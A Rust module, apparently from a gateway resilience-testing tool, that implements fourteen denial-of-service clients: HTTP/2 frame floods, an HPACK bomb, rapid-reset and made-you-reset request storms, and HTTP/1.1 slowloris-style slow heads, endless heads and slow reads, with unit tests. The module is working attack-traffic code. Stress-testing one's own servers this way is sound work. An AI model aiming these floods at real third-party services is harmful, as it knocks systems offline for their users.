//! Clients that attack: each a beginning, and a unit that is repeated until the gateway has had enough.

use crate::attacks::frames::{
    self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW, NEWEST, PING, PREFACE, PRIORITY,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, frame,
};
use crate::attacks::siege::{Plan, Speech};

/// Connections of an attack that needs few.
const FEW: usize = 2;
/// Connections of one that needs many.
const MANY: usize = 400;
/// Connections that hold large answers back.
const HOLDERS: usize = 4;
/// Frames per second of floods, over all connections.
const FLOOD_RATE: f64 = 20_000.0;
/// Requests per second of attacks by requests.
const REQUEST_RATE: f64 = 10_000.0;
/// Streams that a connection holds open, or back.
const HELD_STREAMS: u64 = 100;
/// The value of each field of an endless head.
const FILLER: &str =
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

/// What is done to the gateway from the front.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// PING.
    Pings,
    /// SETTINGS, each of which wants an acknowledgement.
    Settings,
    /// PRIORITY of a stream that does not exist.
    Priorities,
    /// WINDOW_UPDATE by one byte.
    WindowUpdates,
    /// DATA of no bytes.
    EmptyData,
    /// DATA of one byte.
    TinyData,
    /// A field block without an end.
    Continuations,
    /// A table entry of 4 KB, named 4,000 times a request.
    Bomb,
    /// Requests, each reset at once.
    RapidReset,
    /// Requests, each followed by a mistake for which the gateway has to reset it.
    MadeYouReset,
    /// HTTP/1.1: a head without an end.
    EndlessHead,
    /// HTTP/1.1: a body in chunks of one byte.
    TinyChunks,
    /// HTTP/1.1: many connections whose heads arrive a byte at a time.
    SlowHeads,
    /// Large answers that are let through a byte at a time.
    SlowReads,
}

impl Attack {
    /// All of them; what may leave memory behind comes last.
    pub const ALL: [Attack; 14] = [
        Attack::Pings,
        Attack::Settings,
        Attack::Priorities,
        Attack::WindowUpdates,
        Attack::EmptyData,
        Attack::TinyData,
        Attack::Continuations,
        Attack::Bomb,
        Attack::RapidReset,
        Attack::MadeYouReset,
        Attack::EndlessHead,
        Attack::TinyChunks,
        Attack::SlowHeads,
        Attack::SlowReads,
    ];

    /// Its name in rows.
    pub fn name(self) -> &'static str {
        match self {
            Attack::Pings => "PING flood",
            Attack::Settings => "SETTINGS flood",
            Attack::Priorities => "PRIORITY flood",
            Attack::WindowUpdates => "WINDOW_UPDATE flood",
            Attack::EmptyData => "empty DATA",
            Attack::TinyData => "tiny DATA",
            Attack::Continuations => "CONTINUATION flood",
            Attack::Bomb => "HPACK bomb",
            Attack::RapidReset => "rapid reset",
            Attack::MadeYouReset => "made-you-reset",
            Attack::EndlessHead => "endless head",
            Attack::TinyChunks => "tiny chunks",
            Attack::SlowHeads => "slow heads",
            Attack::SlowReads => "slow reads",
        }
    }

    /// As a siege; attacks by requests request `path`.
    pub fn plan(self, path: &str) -> Plan {
        let path = path.to_owned();
        Plan {
            connections: self.connections(),
            rate: self.rate(),
            speech: if self.is_http2() { Speech::Http2 } else { Speech::Http1 },
            reads: true,
            begin: Box::new(move |_, out| self.begin(out)),
            unit: Box::new(move |number, out| self.unit(number, &path, out)),
        }
    }

    fn connections(self) -> usize {
        match self {
            Attack::SlowHeads => MANY,
            Attack::SlowReads => HOLDERS,
            _ => FEW,
        }
    }

    /// Units per second over all connections.
    pub fn rate(self) -> f64 {
        match self {
            Attack::RapidReset | Attack::MadeYouReset => REQUEST_RATE,
            // A block of 4 KB each.
            Attack::Bomb => 500.0,
            // A byte per connection and second.
            Attack::SlowHeads => MANY as f64,
            Attack::SlowReads => 2000.0,
            _ => FLOOD_RATE,
        }
    }

    /// Whether it speaks HTTP/2.
    fn is_http2(self) -> bool {
        !matches!(self, Attack::EndlessHead | Attack::TinyChunks | Attack::SlowHeads)
    }

    /// What a connection begins with.
    fn begin(self, out: &mut Vec<u8>) {
        if self.is_http2() {
            out.extend_from_slice(PREFACE);
            let settings = if self == Attack::SlowReads { frames::setting(INITIAL_WINDOW, 1) } else { Vec::new() };
            frame(out, SETTINGS, 0, 0, &settings);
        }
        match self {
            Attack::EmptyData | Attack::TinyData => {
                frame(out, HEADERS, END_HEADERS, 1, &frames::request("POST", "/post/1"));
            }
            Attack::Continuations => frame(out, HEADERS, END_STREAM, 1, &frames::request("GET", "/fanout/1")),
            Attack::Bomb => {
                let mut block = frames::request("GET", "/fanout/1");
                frames::kept_field(&mut block, "x-large", &[b'a'; 4000]);
                frame(out, HEADERS, END_HEADERS | END_STREAM, 1, &block);
            }
            Attack::EndlessHead | Attack::SlowHeads => {
                out.extend_from_slice(b"GET /fanout/1 HTTP/1.1\r\nHost: gateway\r\nX-Filler: ");
            }
            Attack::TinyChunks => {
                out.extend_from_slice(b"POST /post/1 HTTP/1.1\r\nHost: gateway\r\nTransfer-Encoding: chunked\r\n\r\n")
            }
            _ => {}
        }
    }

    /// The unit with this number on its connection.
    fn unit(self, number: u64, path: &str, out: &mut Vec<u8>) {
        // Stream 1 may be in use since the beginning; identifiers do not come back.
        let stream = (number as u32 * 2 + 3) & 0x7fff_ffff;
        match self {
            Attack::Pings => frame(out, PING, 0, 0, &number.to_be_bytes()),
            Attack::Settings => frame(out, SETTINGS, 0, 0, &frames::setting(INITIAL_WINDOW, 65_535)),
            Attack::Priorities => frame(out, PRIORITY, 0, stream, &[0, 0, 0, 0, 15]),
            Attack::WindowUpdates => frame(out, WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()),
            Attack::EmptyData => frame(out, DATA, 0, 1, b""),
            Attack::TinyData => frame(out, DATA, 0, 1, b"x"),
            Attack::Continuations => {
                let mut block = Vec::new();
                frames::field(&mut block, "x-filler", b"aaaaaaaa");
                frame(out, CONTINUATION, 0, 1, &block);
            }
            Attack::Bomb => {
                let mut block = frames::request("GET", "/fanout/1");
                block.extend_from_slice(&[NEWEST; 4000]);
                frame(out, HEADERS, END_HEADERS | END_STREAM, stream, &block);
            }
            Attack::RapidReset | Attack::MadeYouReset => {
                frame(out, HEADERS, END_HEADERS | END_STREAM, stream, &frames::request("GET", path));
                match self {
                    // CANCEL.
                    Attack::RapidReset => frame(out, RST_STREAM, 0, stream, &8u32.to_be_bytes()),
                    // An increment of zero is a mistake (RFC 9113 section 6.9).
                    _ => frame(out, WINDOW_UPDATE, 0, stream, &0u32.to_be_bytes()),
                }
            }
            Attack::EndlessHead => out.extend_from_slice(format!("\r\nX-Filler-{number}: {FILLER}").as_bytes()),
            Attack::TinyChunks => out.extend_from_slice(b"1\r\nx\r\n"),
            Attack::SlowHeads => out.push(b'a'),
            Attack::SlowReads if number < HELD_STREAMS => {
                frame(out, HEADERS, END_HEADERS | END_STREAM, stream, &frames::request("GET", "/large"));
            }
            Attack::SlowReads => {
                let stream = (number % HELD_STREAMS) as u32 * 2 + 3;
                frame(out, WINDOW_UPDATE, 0, stream, &1u32.to_be_bytes());
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attacks::frames::FrameReader;

    #[test]
    fn every_attack_has_a_unit_and_streams_do_not_come_back() {
        for attack in Attack::ALL {
            let (mut begin, mut unit, mut next) = (Vec::new(), Vec::new(), Vec::new());
            attack.begin(&mut begin);
            attack.unit(0, "/fanout/1", &mut unit);
            attack.unit(1, "/fanout/1", &mut next);
            assert!(!begin.is_empty() && !unit.is_empty() && attack.rate() > 0.0, "{}", attack.name());
            assert_eq!(begin.starts_with(PREFACE), attack.is_http2());
            let mut reader = FrameReader::default();
            reader.extend(&[&unit[..], &next].concat());
            let opened: Vec<u32> = std::iter::from_fn(|| reader.next().map(|frame| (frame.kind, frame.stream)))
                .filter(|(kind, _)| *kind == HEADERS)
                .map(|(_, stream)| stream)
                .collect();
            assert!(opened.is_empty() || opened == [3, 5], "{}: {opened:?}", attack.name());
        }
    }

    #[test]
    fn a_slow_reader_asks_and_then_drips() {
        let kinds = |number| {
            let (mut bytes, mut reader) = (Vec::new(), FrameReader::default());
            Attack::SlowReads.unit(number, "", &mut bytes);
            reader.extend(&bytes);
            reader.next().map(|frame| (frame.kind, frame.stream))
        };
        assert_eq!((kinds(99), kinds(100)), (Some((HEADERS, 201)), Some((WINDOW_UPDATE, 3))));
    }
}
